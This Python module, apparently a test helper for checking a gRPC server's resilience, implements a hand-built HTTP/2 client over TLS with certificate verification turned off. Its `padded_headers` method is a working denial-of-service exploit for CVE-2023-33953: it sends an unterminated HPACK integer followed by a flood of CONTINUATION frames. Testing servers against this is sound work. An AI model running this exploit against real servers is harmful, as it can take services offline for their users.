"""HTTP/2 as somebody speaks it who means no good: frames by hand, over TLS, from an address of one's own choice. It knows as
much of the protocol as an attack needs."""
import contextlib
import socket
import ssl
import struct
import threading

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1


def connect(address, source, timeout=10):
    """TCP from one of this machine's own addresses (127.0.0.2 is one)."""
    host, port = address.rsplit(":", 1)
    return socket.create_connection((host, int(port)), timeout=timeout, source_address=(source, 0))


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    """A header field that is not indexed, neither name nor value compressed; both shorter than 127 bytes."""
    return bytes([0, len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


def request_headers(path):
    fields = {":method": "POST", ":scheme": "https", ":path": path, ":authority": "localhost",
              "content-type": "application/grpc", "te": "trailers"}
    return b"".join(literal(name, value) for name, value in fields.items())


class Stranger:
    """A connection without a client certificate, that trusts any server."""

    def __init__(self, address, source, timeout=10):
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        context.set_alpn_protocols(["h2"])
        # OpenSSL's connections serve one thread at a time, and Python 3.11's sockets do not see to that.
        self.using_tls = threading.Lock()
        self.came, self.goes = ssl.MemoryBIO(), ssl.MemoryBIO()
        self.tls = context.wrap_bio(self.came, self.goes)
        self.raw = connect(address, source, timeout)
        try:
            self.shake_hands()
        except OSError:
            self.raw.close()
            raise
        self.raw.settimeout(None)
        self.windows = {0: 65535}
        self.first = 65535  # window of a new stream
        self.news = threading.Condition()
        self.over = False
        self.sending = threading.Lock()
        self.reader = threading.Thread(target=self.read, daemon=True)
        self.send(PREFACE + frame(SETTINGS, 0, 0))
        self.reader.start()

    def __enter__(self):
        return self

    def __exit__(self, *_):
        with contextlib.suppress(OSError):
            self.raw.shutdown(socket.SHUT_RDWR)
        self.reader.join()
        self.raw.close()

    def shake_hands(self):
        done = False
        while not done:
            try:
                self.tls.do_handshake()
                done = True
            except ssl.SSLWantReadError:
                pass
            self.raw.sendall(self.goes.read())
            if not done:
                more = self.raw.recv(1 << 16)
                if not more:
                    raise ConnectionAbortedError
                self.came.write(more)

    def send(self, data):
        """False once the server has ended it."""
        try:
            with self.sending:
                with self.using_tls:
                    self.tls.write(data)  # whole, however much: what goes out waits in memory
                    ciphertext = self.goes.read()
                self.raw.sendall(ciphertext)
            return not self.over
        except OSError:
            self.end()
            return False

    def receive(self):
        """Some bytes; none at the end."""
        while True:
            with self.using_tls:
                try:
                    return self.tls.read(1 << 16)
                except ssl.SSLWantReadError:
                    pass
            more = self.raw.recv(1 << 16)
            if not more:
                return b""
            with self.using_tls:
                self.came.write(more)

    def end(self):
        with self.news:
            self.over = True
            self.news.notify_all()

    def read(self):
        got = b""
        try:
            while True:
                while len(got) < 9 or len(got) < 9 + int.from_bytes(got[:3], "big"):
                    more = self.receive()
                    if not more:
                        return
                    got += more
                size, kind, flags = int.from_bytes(got[:3], "big"), got[3], got[4]
                stream, payload = int.from_bytes(got[5:9], "big"), got[9:9 + size]
                got = got[9 + size:]
                self.take(kind, flags, stream, payload)
        except OSError:
            pass
        finally:
            self.end()

    def take(self, kind, flags, stream, payload):
        with self.news:
            if kind == WINDOW_UPDATE:
                self.windows[stream] = self.windows.get(stream, self.first) + int.from_bytes(payload, "big")
            elif kind == SETTINGS and not flags & ACK:
                for at in range(0, len(payload), 6):
                    name, value = struct.unpack(">HI", payload[at:at + 6])
                    if name == 4:
                        self.first = value
            elif kind in (GOAWAY, RST_STREAM):
                self.over = True
            self.news.notify_all()

    def call(self, path, message, stream=1):
        """Sends a call as fast as the server lets it; how many bytes of the message went out."""
        self.send(frame(HEADERS, END_HEADERS, stream, request_headers(path)))
        rest = b"\0" + struct.pack(">I", len(message)) + message
        sent = 0
        while sent < len(rest):
            with self.news:
                def room():
                    return min(self.windows[0], self.windows.setdefault(stream, self.first), 16384, len(rest) - sent)
                self.news.wait_for(lambda: self.over or room() > 0, timeout=10)
                size = room()
                if self.over or size <= 0:
                    return sent
                self.windows[0] -= size
                self.windows[stream] -= size
            last = END_STREAM if sent + size == len(rest) else 0
            if not self.send(frame(DATA, last, stream, rest[sent:sent + size])):
                return sent
            sent += size
        return sent

    def padded_headers(self, most):
        """CVE-2023-33953: a number whose bytes say nothing and do not end, each in a frame of its own; the receiver starts again
        at each. How many frames went out."""
        if not self.send(frame(HEADERS, 0, 1, b"\xff")):
            return 0
        piece = frame(CONTINUATION, 0, 1, b"\x80") * 64
        for sent in range(0, most, 64):
            if not self.send(piece):
                return sent
        return most

    def wait_over(self, timeout):
        with self.news:
            return self.news.wait_for(lambda: self.over, timeout)
